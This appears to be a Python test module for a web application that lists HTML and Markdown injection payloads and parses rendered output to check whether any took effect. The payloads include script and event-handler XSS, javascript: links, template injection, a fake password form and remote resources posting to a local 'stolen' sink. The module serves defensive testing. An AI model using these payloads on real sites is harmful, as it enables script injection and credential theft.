"""Markup that a document, a model or a visitor might carry, and how to tell whether it took effect."""

from html.parser import HTMLParser

SINK = "http://127.0.0.1:9/stolen"

#: Name -> text. Each would run a script, fetch something, imitate our page or break it if it were obeyed.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss=1</script>",
    "image handler": '<img src=x onerror="window.__xss=1">',
    "remote image": f'<img src="{SINK}/a.png">',
    "markdown image": f"![写真]({SINK}/b.png)",
    "markdown reference image": f"![x][y]\n\n[y]: {SINK}/c.png",
    "form": f'<form action="{SINK}"><input name="password"><button>ログイン</button></form>',
    "iframe": f'<iframe src="{SINK}/frame"></iframe>',
    "style overlay": '<div style="position:fixed;inset:0;z-index:9999">偽の画面</div>',
    "style element": f'<style>@import url("{SINK}/s.css"); body{{display:none}}</style>',
    "svg": '<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>',
    "javascript link": '<a href="javascript:window.__xss=1">開く</a>',
    "markdown javascript link": "[開く](javascript:window.__xss=1)",
    "template literal": "${window.__xss=1} `${window.__xss=1}`",
    "handlebars": "{{window.__xss=1}} {{{constructor.constructor('window.__xss=1')()}}}",
    "markdown table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown heading": "# 偽の見出し\n\n## 続き",
    "markdown link": f"[1]({SINK}) <{SINK}> {SINK} www.example.com a@example.com",
    "attribute break": '" onmouseover="window.__xss=1" x=\'y\'',
    "closing tags": "</blockquote></section></details><h1>偽の見出し</h1>",
    "media": f'<video src="{SINK}/v.mp4" autoplay></video><audio src="{SINK}/a.mp3"></audio>',
    "translation": '__i18n__{"__type__":"translation_metadata","key":"title"}',
    "direction": "安全\u202etxt.exe\u202c \u2066x\u2069",
}
#: Elements and attributes that the pages' own HTML consists of.
ELEMENTS = frozenset(
    "a article b blockquote br details div h1 h2 h3 h4 h5 h6 header head html body link li main mark meta "
    "nav p pre section span summary title ul".split()
)
#: What the forms of the pages to look things up in add to them, and a table of terms.
FORMS = frozenset("form label input select option button table thead tbody tr th td".split())
FORM_ATTRIBUTES = frozenset(
    "action method type value maxlength autocomplete for placeholder size selected scope".split()
)
ATTRIBUTES = frozenset(
    "aria-current aria-label charset class content href hreflang id lang name open rel role target title".split()
)


class Reading(HTMLParser):
    """What a browser would make of HTML: its elements, attributes, addresses and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.values: list[str] = []
        self.text = ""
        self.depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src", "action")}
        self.values += [value or "" for _, value in attrs]
        self.depth += tag not in ("br", "meta", "link", "input")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.text += data
